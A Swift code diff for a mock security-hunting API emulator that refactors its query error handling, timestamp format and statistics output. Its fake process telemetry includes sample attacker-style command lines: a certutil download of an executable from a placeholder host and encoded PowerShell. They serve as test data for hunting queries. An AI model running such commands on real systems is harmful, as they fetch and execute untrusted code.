@@ -7,7 +7,7 @@ import Hummingbird
 enum Hunting {
     nonisolated(unsafe) static let tables: [String: (schema: [(String, String)], rows: [[String: Any]])] = {
         let base = (Date().timeIntervalSince1970 / 3600).rounded(.down) * 3600
-        func time(_ index: Int) -> String { DefenderRoutes.iso.string(from: Date(timeIntervalSince1970: base - Double(index) * 600)) }
+        func time(_ index: Int) -> String { ServiceTime(Date(timeIntervalSince1970: base - Double(index) * 600 + Double(index) * 0.1234567)).text(digits: 7) }  // D-AH: 7 digits
         let processes = (0..<40).map { index -> [String: Any] in
             ["Timestamp": time(index), "DeviceName": "host-\(index % 7).contoso.local", "FileName": ["powershell.exe", "cmd.exe", "rundll32.exe", "certutil.exe"][index % 4],
              "ProcessCommandLine": index % 4 == 3 ? "certutil -urlcache -f http://x/a.exe" : "powershell -enc AAAA\(index)", "AccountName": "user\(index % 5)",
@@ -31,12 +31,14 @@ enum Hunting {
     }()
 
     static func run(_ body: Data, graph: Bool = false) -> Response {
+        let api: SecurityAPI = graph ? .graph : .defender
+        func failure(_ message: String) -> Response { api.error(.badRequest, "BadRequest", message) }
         guard let object = (try? JSONSerialization.jsonObject(with: body)) as? [String: Any], let query = object["Query"] as? String else {
-            return DefenderRoutes.error(.badRequest, "BadRequest", "The body must be {\"Query\": \"…\"}")
+            return failure("The body must be {\"Query\": \"…\"}")
         }
         let stages = query.split(separator: "|").map { $0.trimmingCharacters(in: .whitespacesAndNewlines) }
         guard let tableName = stages.first, let table = tables[tableName] else {
-            return DefenderRoutes.error(.badRequest, "BadRequest", "Unknown table '\(stages.first ?? "")'; the emulator has \(tables.keys.sorted().joined(separator: ", "))")
+            return failure("Unknown table '\(stages.first ?? "")'; the emulator has \(tables.keys.sorted().joined(separator: ", "))")
         }
         var schema = table.schema
         var rows = table.rows
@@ -44,14 +46,14 @@ enum Hunting {
             let words = stage.split(separator: " ", omittingEmptySubsequences: true).map(String.init)
             switch words.first?.lowercased() {
             case "take", "limit":
-                guard words.count == 2, let count = Int(words[1]) else { return unsupported(stage) }
+                guard words.count == 2, let count = Int(words[1]) else { return failure(unsupported(stage)) }
                 rows = Array(rows.prefix(count))
             case "where":
-                guard words.count >= 4 else { return unsupported(stage) }
+                guard words.count >= 4 else { return failure(unsupported(stage)) }
                 let column = words[1], op = words[2]
                 var value = words[3...].joined(separator: " ")
                 if (value.hasPrefix("\"") && value.hasSuffix("\"")) || (value.hasPrefix("'") && value.hasSuffix("'")) { value = String(value.dropFirst().dropLast()) }
-                guard schema.contains(where: { $0.0 == column }), ["==", "!=", ">", "<", "has"].contains(op) else { return unsupported(stage) }
+                guard schema.contains(where: { $0.0 == column }), ["==", "!=", ">", "<", "has"].contains(op) else { return failure(unsupported(stage)) }
                 rows = rows.filter { row in
                     let cell = "\(row[column] ?? "")"
                     switch op {
@@ -64,19 +66,19 @@ enum Hunting {
                 }
             case "project":
                 let columns = stage.dropFirst("project".count).split(separator: ",").map { $0.trimmingCharacters(in: .whitespaces) }
-                guard !columns.isEmpty, columns.allSatisfy({ column in schema.contains { $0.0 == column } }) else { return unsupported(stage) }
+                guard !columns.isEmpty, columns.allSatisfy({ column in schema.contains { $0.0 == column } }) else { return failure(unsupported(stage)) }
                 schema = columns.compactMap { column in schema.first { $0.0 == column } }
                 rows = rows.map { row in row.filter { columns.contains($0.key) } }
             case "count":
-                guard words.count == 1 else { return unsupported(stage) }
+                guard words.count == 1 else { return failure(unsupported(stage)) }
                 schema = [("Count", "Int64")]
                 rows = [["Count": rows.count]]
             case "order", "sort":
-                guard words.count >= 3, words[1] == "by", schema.contains(where: { $0.0 == words[2] }) else { return unsupported(stage) }
+                guard words.count >= 3, words[1] == "by", schema.contains(where: { $0.0 == words[2] }) else { return failure(unsupported(stage)) }
                 let column = words[2], ascending = words.count > 3 && words[3].lowercased() == "asc"
                 rows.sort { ascending ? "\($0[column] ?? "")" < "\($1[column] ?? "")" : "\($0[column] ?? "")" > "\($1[column] ?? "")" }
             default:
-                return unsupported(stage)
+                return failure(unsupported(stage))
             }
         }
         if graph {
@@ -84,13 +86,15 @@ enum Hunting {
                                     "schema": schema.map { ["name": $0.0, "type": $0.1] }, "results": rows])
         }
         return EntraReply.json([
-            "Stats": ["ExecutionTime": 0.01, "resource_usage": ["cpu": ["total": 0.01]], "dataset_statistics": [["table_row_count": rows.count]]],
+            // D-AH's Stats: cpu times are timespan strings; clients must not depend on Stats.
+            "Stats": ["ExecutionTime": 0.01, "resource_usage": ["cpu": ["user": "00:00:00.0156250", "kernel": "00:00:00", "total cpu": "00:00:00.0156250"]],
+                      "dataset_statistics": [["table_row_count": rows.count, "table_size": rows.count * 512]]],
             "Schema": schema.map { ["Name": $0.0, "Type": $0.1] },
             "Results": rows,
         ])
     }
 
-    static func unsupported(_ stage: String) -> Response {
-        DefenderRoutes.error(.badRequest, "BadRequest", "Unsupported KQL in the emulator: '\(stage)'. Supported: where (==, !=, >, <, has), project, take/limit, count, order by")
+    static func unsupported(_ stage: String) -> String {
+        ("Unsupported KQL in the emulator: '\(stage)'. Supported: where (==, !=, >, <, has), project, take/limit, count, order by")
     }
 }
